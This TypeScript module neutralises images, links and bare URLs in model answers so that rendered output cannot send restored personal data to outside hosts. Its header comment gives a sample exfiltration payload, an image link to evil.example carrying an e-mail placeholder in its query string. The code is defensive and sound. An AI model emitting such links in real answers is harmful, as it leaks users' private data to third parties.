/**
 * Links, images and URLs in a model answer: the answer must not carry data out.
 *
 * A client that renders Markdown or HTML loads images by itself and turns links and bare
 * URLs into targets a click away, so an answer such as
 * `![logo](https://evil.example/p.png?q=[EMAIL_1])` would, once the placeholder is restored,
 * send the caller's own e-mail address to another host. This module
 *
 * - neutralises every image, link, reference definition, autolink, HTML tag with a URL
 *   attribute and bare URL whose target is not an `https:`/`http:` URL on an allow-listed
 *   host: images become the inert text `[image: alt]`, links keep their text and lose their
 *   target, bare URLs are defanged (`hxxps[://]evil[.]example/...`); `data:`, `javascript:`
 *   and every other scheme are never allowed;
 * - finds the ranges a restore must never write into (URLs, link targets, image sources,
 *   HTML tags, query strings, code spans, fenced and indented code) and restores
 *   placeholders only outside them;
 * - tells whether URLs or query strings carry a placeholder.
 *
 * Targets are judged after decoding HTML entities and percent-encoding and removing the
 * whitespace and control characters browsers ignore, so encoded schemes and hosts split
 * across lines are judged as the browser would read them. Pure functions, no I/O; the
 * streaming guard reuses them with {@link heldBackFrom} and {@link MAX_LINK_CONSTRUCT_CHARS}.
 */
import { PLACEHOLDER_PATTERN, type Vault } from './vault';

/**
 * The longest link construct the scanners recognise as one unit (an image or link with its
 * target and title, an HTML tag, a reference definition, one URL). A streaming caller holds
 * back at most this many characters from the end of what it has seen (see
 * {@link heldBackFrom}); a construct longer than this is still neutralised, because a target
 * cut at this length is judged on its start (scheme and host), which is what decides.
 */
export const MAX_LINK_CONSTRUCT_CHARS = 2048;

export interface LinkCounts {
  /** Markdown or HTML images removed. */
  images: number;
  /** Markdown links, reference definitions, autolinks and HTML anchors stripped of their target. */
  links: number;
  /** Bare URLs defanged. */
  urls: number;
  /** Other HTML tags removed because an attribute carried a URL. */
  html: number;
}

export interface LinkNeutralisation extends LinkCounts {
  text: string;
  /** All of the above together: what the audit event records. */
  total: number;
}

// ---------------------------------------------------------------------------------------
// Decoding and judging a target

const NAMED_ENTITIES: Record<string, string> = {
  amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', sol: '/', period: '.', quest: '?',
  equals: '=', num: '#', percnt: '%', commat: '@', lpar: '(', rpar: ')', lsqb: '[', rsqb: ']',
  lbrack: '[', rbrack: ']', tab: '\t', newline: '\n', nbsp: ' ', excl: '!', plus: '+', comma: ',',
};

function decodeEntities(s: string): string {
  if (s.indexOf('&') < 0) return s;
  return s.replace(/&(#[xX][0-9a-fA-F]{1,6}|#[0-9]{1,7}|[a-zA-Z]{2,10});?/g, (m, body: string) => {
    if (body[0] === '#') {
      const code = body[1] === 'x' || body[1] === 'X' ? parseInt(body.slice(2), 16) : parseInt(body.slice(1), 10);
      return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : m;
    }
    return NAMED_ENTITIES[body.toLowerCase()] ?? m;
  });
}

/** Entities that decode to letters, digits or URL punctuation; markup entities (&lt; &amp; ...) stay. */
function decodeUrlEntities(s: string): string {
  if (s.indexOf('&') < 0) return s;
  return s.replace(/&(#[xX][0-9a-fA-F]{1,6}|#[0-9]{1,7}|[a-zA-Z]{2,10});?/g, (m) => {
    const d = decodeEntities(m);
    return d !== m && /^[A-Za-z0-9:/.?=#@%_~+-]$/.test(d) ? d : m;
  });
}

function decodePercent(s: string): string {
  if (s.indexOf('%') < 0) return s;
  return s.replace(/(?:%[0-9a-fA-F]{2})+/g, (m) => {
    try {
      return decodeURIComponent(m);
    } catch {
      return m.replace(/%([0-9a-fA-F]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
    }
  });
}

/**
 * A link target as a browser would read it: Markdown backslash escapes, HTML entities and
 * percent-encoding decoded (a few rounds, for double encoding), and the whitespace and
 * control characters URL parsers strip removed.
 */
export function decodeTarget(raw: string): string {
  let s = raw.replace(/\\([!-/:-@[-`{-~])/g, '$1');
  for (let round = 0; round < 3; round++) {
    const next = decodePercent(decodeEntities(s));
    if (next === s) break;
    s = next;
  }
  // eslint-disable-next-line no-control-regex
  return s.replace(/[\u0000-\u0020\u007f-\u00a0\u00ad\u200b-\u200f\u2028\u2029\u2060\ufeff]/g, '');
}

/** Normalised allow-list entries: lower case, no trailing dot; `*.example.com` allows subdomains. */
export function normaliseAllowedHosts(hosts: readonly string[] | undefined): string[] {
  return (hosts ?? []).map((h) => String(h).trim().toLowerCase().replace(/\.$/, '')).filter((h) => h.length > 0);
}

function hostAllowed(host: string, allowed: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  for (const a of allowed) {
    if (a.startsWith('*.')) {
      if (h.endsWith(a.slice(1))) return true;
    } else if (h === a) return true;
  }
  return false;
}

/**
 * True only for an absolute `https:` or `http:` URL, without user info, whose host is on the
 * allow-list. Relative targets, scheme-relative ones on other hosts, `data:`, `javascript:`,
 * `mailto:` and every other scheme are not allowed.
 */
export function isAllowedTarget(rawTarget: string, allowedHosts: readonly string[]): boolean {
  if (allowedHosts.length === 0) return false;
  const target = decodeTarget(rawTarget);
  if (!/^https?:\/\//i.test(target)) return false;
  let url: URL;
  try {
    url = new URL(target);
  } catch {
    return false;
  }
  if (url.username || url.password) return false;
  return hostAllowed(url.hostname, allowedHosts);
}

// ---------------------------------------------------------------------------------------
// Regions: fenced code is left alone by the neutraliser (renderers show it verbatim)

interface Range {
  start: number;
  end: number;
}

/** Fenced code blocks (``` or ~~~), an unclosed fence running to the end as CommonMark reads it. */
export function fencedCodeRanges(text: string): Range[] {
  const ranges: Range[] = [];
  const fence = /^ {0,3}(`{3,}|~{3,})[^\n]*$/gm;
  let m: RegExpExecArray | null;
  while ((m = fence.exec(text)) !== null) {
    const start = m.index;
    const marker = m[1];
    if (marker[0] === '`' && m[0].slice(m[0].indexOf(marker) + marker.length).includes('`')) continue;
    const close = new RegExp(`^ {0,3}${marker[0] === '`' ? '`' : '~'}{${marker.length},}[ \\t]*$`, 'gm');
    close.lastIndex = m.index + m[0].length + 1;
    const c = close.exec(text);
    const end = c ? c.index + c[0].length : text.length;
    ranges.push({ start, end });
    fence.lastIndex = Math.max(end, fence.lastIndex);
  }
  return ranges;
}

function mapOutside(text: string, ranges: readonly Range[], fn: (segment: string) => string): string {
  if (ranges.length === 0) return fn(text);
  let out = '';
  let cursor = 0;
  for (const r of ranges) {
    out += fn(text.slice(cursor, r.start)) + text.slice(r.start, r.end);
    cursor = r.end;
  }
  return out + fn(text.slice(cursor));
}

// ---------------------------------------------------------------------------------------
// Scanners for Markdown constructs

/** Index just past the `]` closing the `[` at `open` (nesting and escapes honoured), or -1. */
function closingBracket(text: string, open: number): number {
  let depth = 0;
  const limit = Math.min(text.length, open + MAX_LINK_CONSTRUCT_CHARS);
  for (let i = open; i < limit; i++) {
    const c = text[i];
    if (c === '\\') {
      i++;
      continue;
    }
    if (c === '[') depth++;
    else if (c === ']') {
      depth--;
      if (depth === 0) return i + 1;
    }
  }
  return -1;
}

/** Index just past the `)` closing the `(` at `open` (balanced, escapes honoured), or -1. */
function closingParen(text: string, open: number): number {
  let depth = 0;
  let angle = false;
  const limit = Math.min(text.length, open + MAX_LINK_CONSTRUCT_CHARS);
  for (let i = open; i < limit; i++) {
    const c = text[i];
    if (c === '\\') {
      i++;
      continue;
    }
    if (c === '<' && !angle && /^\(\s*$/.test(text.slice(open, i))) angle = true;
    else if (c === '>' && angle) angle = false;
    else if (angle) continue;
    else if (c === '(') depth++;
    else if (c === ')') {
      depth--;
      if (depth === 0) return i + 1;
    }
  }
  return -1;
}

/** The destination of `(dest "title")`: the `<...>` form or the first whitespace-free run. */
function destinationOf(inner: string): string {
  const s = inner.replace(/^\s+/, '');
  if (s[0] === '<') {
    const end = s.indexOf('>');
    return end < 0 ? s : s.slice(1, end);
  }
  const m = /^\S*/.exec(s);
  return m ? m[0] : '';
}

/** Alt text of an image made inert: no brackets, no URLs, one line. */
function inertAlt(alt: string): string {
  return defangUrls(alt.replace(/[[\]()<>]/g, ' ').replace(/\s+/g, ' ').trim(), []).text;
}

/** Inline images and links `![alt](dest)` / `[text](dest)`; reference uses are left to their definitions. */
function neutraliseInline(text: string, allowed: readonly string[], counts: LinkCounts): string {
  let out = '';
  let cursor = 0;
  let i = text.indexOf('[');
  while (i >= 0) {
    const close = closingBracket(text, i);
    if (close < 0) {
      i = text.indexOf('[', i + 1);
      continue;
    }
    if (text[close] !== '(') {
      i = text.indexOf('[', i + 1);
      continue;
    }
    const end = closingParen(text, close);
    if (end < 0) {
      i = text.indexOf('[', i + 1);
      continue;
    }
    const isImage = i > 0 && text[i - 1] === '!' && (i < 2 || text[i - 2] !== '\\');
    const label = text.slice(i + 1, close - 1);
    const target = destinationOf(text.slice(close + 1, end - 1));
    if (isAllowedTarget(target, allowed)) {
      i = text.indexOf('[', end);
      continue;
    }
    const start = isImage ? i - 1 : i;
    if (isImage) {
      counts.images++;
      const alt = inertAlt(label);
      out += text.slice(cursor, start) + (alt ? `[image: ${alt}]` : '[image]');
    } else {
      counts.links++;
      out += text.slice(cursor, start) + label;
    }
    cursor = end;
    i = text.indexOf('[', end);
  }
  return out + text.slice(cursor);
}

/** Reference definitions `[label]: dest "title"` (the destination may sit on the next line). */
const REFERENCE_DEFINITION = /^ {0,3}\[((?:[^\]\\\n]|\\.|\n(?!\s*\n)){1,999})\]:[ \t]*(?:\n[ \t]*)?(<[^>\n]*>|\S+)[^\n]*/gm;

function neutraliseDefinitions(text: string, allowed: readonly string[], counts: LinkCounts): string {
  if (text.indexOf(']:') < 0) return text;
  return text.replace(REFERENCE_DEFINITION, (m, _label: string, dest: string) => {
    const target = dest[0] === '<' ? dest.slice(1, -1) : dest;
    if (isAllowedTarget(target, allowed)) return m;
    counts.links++;
    return '';
  });
}

/** `<https://...>`, `<javascript:...>`, `<mailto:...>` and `<a@b.example>` autolinks. */
const AUTOLINK = /<([a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>@]+\.[^\s<>@]+)>/g;

function neutraliseAutolinks(text: string, allowed: readonly string[], counts: LinkCounts): string {
  if (text.indexOf('<') < 0) return text;
  return text.replace(AUTOLINK, (m, inner: string) => {
    if (!inner.includes(':')) return inner; // an e-mail autolink: shown as the address
    if (isAllowedTarget(inner, allowed)) return m;
    counts.links++;
    return defangUrls(inner, []).text;
  });
}

// ---------------------------------------------------------------------------------------
// HTML

const HTML_TAG = /<\/?([a-zA-Z][a-zA-Z0-9-]*)(?=[\s/>])((?:[^>"']|"[^"]*"|'[^']*')*)>/g;
const ATTRIBUTE = /([a-zA-Z_:][-a-zA-Z0-9_:.]*)\s*=\s*("[^"]*"|'[^']*'|[^\s"'=<>`]+)/g;
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href', 'cite', 'longdesc', 'ping', 'manifest', 'icon', 'codebase', 'lowsrc', 'dynsrc']);

function attributesOf(body: string): { name: string; value: string }[] {
  const out: { name: string; value: string }[] = [];
  for (const m of body.matchAll(ATTRIBUTE)) {
    const v = m[2];
    out.push({ name: m[1].toLowerCase(), value: v[0] === '"' || v[0] === "'" ? v.slice(1, -1) : v });
  }
  return out;
}

/** An attribute value that makes the browser fetch or navigate (URL attributes, CSS url(), refresh). */
function attributeTargets(name: string, value: string): string[] {
  const decoded = decodeTarget(value);
  if (URL_ATTRIBUTES.has(name)) {
    return name === 'srcset' || name === 'ping' ? value.split(/[,\s]+/).filter((v) => v && !/^\d+[wx]$/.test(v)) : [value];
  }
  const targets: string[] = [];
  if (/url\(/i.test(decoded) || /@import/i.test(decoded)) targets.push(decoded.replace(/^.*?url\(\s*['"]?/i, ''));
  if (name === 'content' && /url=/i.test(decoded)) targets.push(decoded.replace(/^.*?url=/i, ''));
  if (/^(?:[a-z][a-z0-9+.-]*:|\/\/)/i.test(decoded) && /^(?:https?|data|javascript|vbscript|file|ftp|blob):|^\/\//i.test(decoded)) targets.push(value);
  return targets;
}

function neutraliseHtml(text: string, allowed: readonly string[], counts: LinkCounts): string {
  if (text.indexOf('<') < 0) return text;
  let removedAnchors = 0;
  const out = text.replace(HTML_TAG, (m, tag: string, body: string) => {
    const name = tag.toLowerCase();
    if (m[1] === '/') {
      if (name === 'a' && removedAnchors > 0) {
        removedAnchors--;
        return '';
      }
      return m;
    }
    const attrs = attributesOf(body);
    const targets = attrs.flatMap((a) => attributeTargets(a.name, a.value));
    const bad = targets.some((t) => !isAllowedTarget(t, allowed));
    if (name === 'img' || name === 'image') {
      if (!bad && targets.length > 0) return m;
      counts.images++;
      const alt = attrs.find((a) => a.name === 'alt');
      const text = alt ? inertAlt(decodeEntities(alt.value)) : '';
      return text ? `[image: ${text}]` : '[image]';
    }
    if (!bad) return m;
    if (name === 'a') {
      counts.links++;
      removedAnchors++;
      return '';
    }
    counts.html++;
    return '';
  });
  return out;
}

// ---------------------------------------------------------------------------------------
// Bare URLs

/**
 * URL-like runs: a scheme with `//`, a scheme-relative `//host.`, `www.`, a host name with a
 * path or query, and the schemes that need no `//` (`data:`, `javascript:`, `vbscript:`, `file:`,
 * `blob:`). A run ends at whitespace or `<`, `>`, a quote or a backtick.
 */
const URL_RUN =
  /(?:\b[a-zA-Z][a-zA-Z0-9+.-]{0,31}:\/\/|(?<![\w.:/])\/\/(?=[\w\-[\]%@&#;]+[.:\]])|\bwww\.|\b(?:data|javascript|vbscript|file|blob|mailto):|(?<![\w@.\-/])(?:[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,62})\.)+[a-zA-Z]{2,24}(?::\d{1,5})?(?=[/?#]))[^\s<>"'`]*/g;

/** `https://evil.example/a.b` -> `hxxps[://]evil[.]example/a[.]b`, `//x.example` -> `[/]/x[.]example`: shown, never linked. */
function defang(url: string): string {
  return url
    .replace(/(h)tt(ps?)(?=:)/gi, '$1xx$2')
    .replace(/(?<!\[):\/\//g, '[://]')
    .replace(/\b(javascript|data|vbscript|file|blob|mailto):(?!\/\/)/gi, '$1[:]')
    .replace(/(?<!:)\/\//g, '[/]/')
    .replace(/(?<!\[)\.(?!\])/g, '[.]');
}

function defangUrls(text: string, allowed: readonly string[]): { text: string; count: number } {
  let count = 0;
  const out = text.replace(URL_RUN, (m) => {
    // A second scheme or host start inside one run is judged as a URL of its own: defanged.
    // Skip only the run's own leading scheme: an allow-listed host followed by another URL
    // (`docs.example.com/?q=https://evil.example/`) is two URLs, and the second is not allowed.
    const head = /^[a-z][a-z0-9+.-]*:\/\//i.exec(m)?.[0].length ?? (m.startsWith('//') ? 2 : 0);
    if (/.(?::\/\/|\/\/|www\.|(?:data|javascript|vbscript|file|blob|mailto):)/i.test(m.slice(head))) {
      count++;
      return defang(m);
    }
    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(m) || m.startsWith('//')) {
      if (isAllowedTarget(m.startsWith('//') ? `https:${m}` : m, allowed)) return m;
    } else if (!/^(?:data|javascript|vbscript|file|blob|mailto):/i.test(m) && isAllowedTarget(`https://${m}`, allowed)) {
      return m;
    }
    const safe = defang(m);
    if (safe !== m) count++;
    return safe;
  });
  return { text: out, count };
}

// ---------------------------------------------------------------------------------------
// Entry points

function neutraliseSegment(segment: string, allowed: readonly string[], counts: LinkCounts): string {
  let s = segment;
  s = neutraliseHtml(s, allowed, counts);
  // Images inside link text (![a](x) inside [..](y)) come out on the next round.
  for (let round = 0; round < 4; round++) {
    const before = counts.images + counts.links;
    s = neutraliseInline(s, allowed, counts);
    if (counts.images + counts.links === before) break;
  }
  s = neutraliseDefinitions(s, allowed, counts);
  s = neutraliseAutolinks(s, allowed, counts);
  // What survived above is allowed: defang bare URLs outside those constructs only, after
  // decoding the entities a renderer would turn into URL characters (https&colon;&sol;&sol;).
  const kept = constructRanges(s);
  return mapOutside(s, kept, (part) => {
    const bare = defangUrls(decodeUrlEntities(part), allowed);
    counts.urls += bare.count;
    return bare.text;
  });
}

/**
 * Neutralise every image, link and URL in `text` whose target is not an `http(s)` URL on an
 * allow-listed host. Fenced code blocks are left as they are (renderers never link inside
 * them). Idempotent: neutralising the result again changes nothing.
 */
export function neutraliseLinks(text: string, allowedHosts: readonly string[] = []): LinkNeutralisation {
  const source = typeof text === 'string' ? text : '';
  const allowed = normaliseAllowedHosts(allowedHosts);
  const counts: LinkCounts = { images: 0, links: 0, urls: 0, html: 0 };
  const out = mapOutside(source, fencedCodeRanges(source), (seg) => neutraliseSegment(seg, allowed, counts));
  return { text: out, ...counts, total: counts.images + counts.links + counts.urls + counts.html };
}

/** Query-string pairs (`?q=...`, `&id=...`), wherever they stand. */
const QUERY_PAIR = /[?&][\w.\-%[\]]{1,64}=[^\s<>"'`]*/g;
/** Markdown link or image targets `](...)`. */
const LINK_TARGET_OPEN = /\]\(/g;

function codeSpanRanges(text: string): Range[] {
  const ranges: Range[] = [];
  const open = /`+/g;
  let m: RegExpExecArray | null;
  while ((m = open.exec(text)) !== null) {
    const ticks = m[0];
    const close = new RegExp(`(?<!\`)${ticks}(?!\`)`, 'g');
    close.lastIndex = m.index + ticks.length;
    const c = close.exec(text);
    if (!c) continue;
    ranges.push({ start: m.index, end: c.index + ticks.length });
    open.lastIndex = c.index + ticks.length;
  }
  return ranges;
}

function indentedCodeRanges(text: string): Range[] {
  const ranges: Range[] = [];
  for (const m of text.matchAll(/^(?: {4}|\t)[^\n]*$/gm)) ranges.push({ start: m.index, end: m.index + m[0].length });
  return ranges;
}

/** Markdown link targets, reference definitions, HTML tags and autolinks, sorted and merged. */
function constructRanges(text: string): Range[] {
  const ranges: Range[] = [];
  for (const m of text.matchAll(HTML_TAG)) ranges.push({ start: m.index, end: m.index + m[0].length });
  for (const m of text.matchAll(REFERENCE_DEFINITION)) ranges.push({ start: m.index, end: m.index + m[0].length });
  for (const m of text.matchAll(AUTOLINK)) ranges.push({ start: m.index, end: m.index + m[0].length });
  for (const m of text.matchAll(LINK_TARGET_OPEN)) {
    const end = closingParen(text, m.index + 1);
    if (end > 0) ranges.push({ start: m.index, end });
  }
  return mergeRanges(ranges);
}

function mergeRanges(ranges: Range[]): Range[] {
  ranges.sort((a, b) => a.start - b.start || b.end - a.end);
  const merged: Range[] = [];
  for (const r of ranges) {
    const last = merged[merged.length - 1];
    if (last && r.start <= last.end) last.end = Math.max(last.end, r.end);
    else merged.push({ ...r });
  }
  return merged;
}

/** URL-like runs (bare, defanged or not) with their offsets. */
export function urlRanges(text: string): Range[] {
  const ranges: Range[] = [];
  for (const m of text.matchAll(URL_RUN)) ranges.push({ start: m.index, end: m.index + m[0].length });
  // Defanged runs are still URLs to the caller: nothing is restored into them either.
  for (const m of text.matchAll(/[^\s<>"'`]*(?:\[\.\]|\[:\/\/\]|\[\/\]\/|\[:\])[^\s<>"'`]*/g)) ranges.push({ start: m.index, end: m.index + m[0].length });
  return ranges;
}

/**
 * Ranges of `text` a restore must never write into: URLs, Markdown link targets and image
 * sources, reference definitions, HTML tags, query strings, code spans and code blocks.
 * Sorted and merged.
 */
export function protectedRanges(text: string): Range[] {
  const ranges: Range[] = [...fencedCodeRanges(text), ...codeSpanRanges(text), ...indentedCodeRanges(text), ...urlRanges(text)];
  for (const m of text.matchAll(QUERY_PAIR)) ranges.push({ start: m.index, end: m.index + m[0].length });
  for (const m of text.matchAll(HTML_TAG)) ranges.push({ start: m.index, end: m.index + m[0].length });
  for (const m of text.matchAll(REFERENCE_DEFINITION)) ranges.push({ start: m.index, end: m.index + m[0].length });
  for (const m of text.matchAll(LINK_TARGET_OPEN)) {
    const end = closingParen(text, m.index + 1);
    ranges.push({ start: m.index, end: end < 0 ? Math.min(text.length, m.index + MAX_LINK_CONSTRUCT_CHARS) : end });
  }
  for (const m of text.matchAll(AUTOLINK)) ranges.push({ start: m.index, end: m.index + m[0].length });
  return mergeRanges(ranges);
}

/**
 * Put the vault's values back in place of their placeholders, but only outside
 * {@link protectedRanges}: a placeholder in a URL, link target, image source, query string,
 * code span or code block stays a placeholder.
 */
export function restoreOutsideLinks(text: string, vault: Vault): string {
  if (typeof text !== 'string') return '';
  if (text.indexOf('[') < 0) return text;
  const ranges = protectedRanges(text);
  const inside = (at: number) => ranges.some((r) => r.start <= at && at < r.end);
  let restores: { start: number; end: number; value: string }[] = [];
  // A copy: matchAll starts at the shared pattern's lastIndex, which other callers move.
  for (const m of text.matchAll(new RegExp(PLACEHOLDER_PATTERN.source, 'g'))) {
    const value = vault.values[m[0]];
    if (value !== undefined && !inside(m.index)) restores.push({ start: m.index, end: m.index + m[0].length, value });
  }
  // A restored value must not join a protected range (a URL it completes, a construct it opens):
  // such a restore is undone, that one only, so the decision stays local to the placeholder and
  // a streamed answer gets the same restores as the whole one. Each round undoes at least one.
  for (;;) {
    let out = '';
    let cursor = 0;
    const spans: { start: number; end: number }[] = [];
    for (const r of restores) {
      out += text.slice(cursor, r.start);
      spans.push({ start: out.length, end: out.length + r.value.length });
      out += r.value;
      cursor = r.end;
    }
    out += text.slice(cursor);
    if (restores.length === 0) return out;
    const joined = new Set<number>();
    for (const r of protectedRanges(out)) spans.forEach((sp, k) => sp.start < r.end && r.start < sp.end && joined.add(k));
    if (joined.size === 0) return out;
    restores = restores.filter((_, k) => !joined.has(k));
  }
}

/**
 * The URL-bearing pieces of an answer as a browser would read them (decoded): URLs, link
 * targets, image sources, HTML tags, reference definitions and query strings.
 */
export function linkTargetsOf(text: string): string[] {
  const pieces: string[] = [];
  for (const r of urlRanges(text)) pieces.push(text.slice(r.start, r.end));
  for (const m of text.matchAll(QUERY_PAIR)) pieces.push(m[0]);
  for (const m of text.matchAll(HTML_TAG)) pieces.push(m[2]);
  for (const m of text.matchAll(REFERENCE_DEFINITION)) pieces.push(m[2]);
  for (const m of text.matchAll(AUTOLINK)) pieces.push(m[1]);
  for (const m of text.matchAll(LINK_TARGET_OPEN)) {
    const end = closingParen(text, m.index + 1);
    pieces.push(text.slice(m.index + 2, end < 0 ? m.index + MAX_LINK_CONSTRUCT_CHARS : end - 1));
  }
  return pieces.map(decodeTarget);
}

/** True when a URL, link target or query string of the answer carries a placeholder. */
export function linksCarryPlaceholder(text: string): boolean {
  if (text.indexOf('[') < 0 && text.indexOf('%5') < 0 && text.indexOf('&') < 0) return false;
  return linkTargetsOf(text).some((t) => {
    PLACEHOLDER_PATTERN.lastIndex = 0;
    return PLACEHOLDER_PATTERN.test(t);
  });
}

/**
 * For a streaming caller: the offset from which the end of `buffer` may still be the start of
 * a link construct that later text completes (an unclosed `[`, `](`, `<` or `&`, a Markdown
 * reference definition, or the last word, which may grow into a URL). Text before it can be
 * neutralised and sent; text from it on is held until more arrives or the stream ends. Never
 * holds back more than {@link MAX_LINK_CONSTRUCT_CHARS} characters.
 */
export function heldBackFrom(buffer: string): number {
  const floor = Math.max(0, buffer.length - MAX_LINK_CONSTRUCT_CHARS);
  let from = buffer.length;
  // The last word (it may become a URL, an entity or a scheme).
  const word = /\S*$/.exec(buffer);
  if (word) from = Math.min(from, word.index);
  // Unclosed brackets and tags.
  for (let i = buffer.length - 1; i >= floor; i--) {
    const c = buffer[i];
    const opens = c === '[' || (c === '<' && /[a-zA-Z/!]/.test(buffer[i + 1] ?? 'a')) || (c === '(' && buffer[i - 1] === ']');
    if (opens) {
      const closer = c === '[' ? closingBracket(buffer, i) : c === '(' ? closingParen(buffer, i) : buffer.indexOf('>', i);
      if (closer < 0) from = Math.min(from, i > 0 && buffer[i - 1] === '!' ? i - 1 : i);
      else if (c === '[' && closer === buffer.length) from = Math.min(from, i > 0 && buffer[i - 1] === '!' ? i - 1 : i);
    }
  }
  // A reference definition on the last two lines may still get its destination.
  const lines = /(?:^|\n)( {0,3}\[[^\n]*(?:\n[^\n]*)?)$/.exec(buffer);
  if (lines) from = Math.min(from, lines.index + (lines[0][0] === '\n' ? 1 : 0));
  return Math.max(floor, from);
}
